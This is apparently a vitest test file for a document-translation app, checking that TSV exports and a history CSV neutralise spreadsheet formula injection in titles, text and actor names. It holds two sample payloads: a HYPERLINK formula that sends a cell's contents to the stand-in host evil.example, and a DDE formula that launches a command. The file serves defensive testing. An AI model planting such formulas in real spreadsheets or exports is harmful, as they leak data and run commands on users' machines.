import { describe, expect, it } from 'vitest';
import { collectChunks } from '@/lib/formats/chunked-output';
import { readTsv } from '@/lib/formats/tsv-format';
import { documentHistory, historyToCsv } from '@/lib/server/documents/document-history';
import { makeDocument, makeProject, makeUser } from '@/lib/server/testing/factories';
import { exportDocument, exportQuerySchema } from './export-documents';

// Issue 9 item 9: text a spreadsheet would run as a formula never leaves an export as a live formula.

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
const DDE = "=cmd|' /C calc'!A0";
const startsLikeFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

/** Cells of a CSV line (RFC 4180 quoting), as a spreadsheet would see them. */
function csvCells(line: string): string[] {
  const cells: string[] = [];
  for (const match of line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)) {
    const raw = match[1];
    cells.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
  }
  return cells;
}

describe('formula injection in spreadsheet-bound exports', () => {
  it('neutralises formula segments and titles in the TSV export, and reads them back unchanged', async () => {
    const editor = await makeUser();
    const project = await makeProject(editor, {}, 'Formula test');
    const article = {
      title: DDE,
      // Both formulas on both sides, so that each links to itself: two unrelated formulas are no translation of each
      // other, and the engine rightly leaves such a pair one-sided (decision 044), out of the TSV.
      ko: `${HYPERLINK}\n\n${DDE}\n\n@SUM(1+1) 서울 버스.`,
      en: `${HYPERLINK}\n\n${DDE}\n\n+1 Seoul buses.`,
      sourceUrl: 'https://news.example.kr/1',
      targetUrl: 'https://news.example.com/1',
    };
    const { id } = await makeDocument(editor, project.id, article);
    const tsv = await collectChunks(
      (await exportDocument(editor, { documentId: id, query: exportQuerySchema.parse({ status: 'all', format: 'tsv' }) })).chunks,
    );

    const cells = tsv
      .trimEnd()
      .split('\n')
      .slice(1)
      .flatMap((line) => line.split('\t'));
    expect(cells.filter(startsLikeFormula)).toEqual([]);
    expect(cells).toContain(`'${DDE}`); // the title column
    const units = readTsv(tsv);
    expect(units.map((u) => u.sourceText)).toContain(HYPERLINK);
    expect(units.map((u) => u.targetText)).toContain(DDE);
    expect(units[0].props['x-document-title']).toBe(DDE);
  });

  it('neutralises formula cells in the history CSV (actor names, titles)', async () => {
    const editor = await makeUser({ name: DDE });
    const project = await makeProject(editor, {}, 'Formula history');
    const article = {
      title: HYPERLINK,
      ko: '서울 버스.',
      en: 'Seoul buses.',
      sourceUrl: 'https://news.example.kr/1',
      targetUrl: 'https://news.example.com/1',
    };
    const { id } = await makeDocument(editor, project.id, article);
    const csv = historyToCsv(await documentHistory(editor, id));

    const rows = csv.trimEnd().split('\r\n').slice(1).map(csvCells);
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.flat().filter(startsLikeFormula)).toEqual([]);
    expect(rows.map((r) => r[1])).toContain(`'${DDE}`);
  });
});
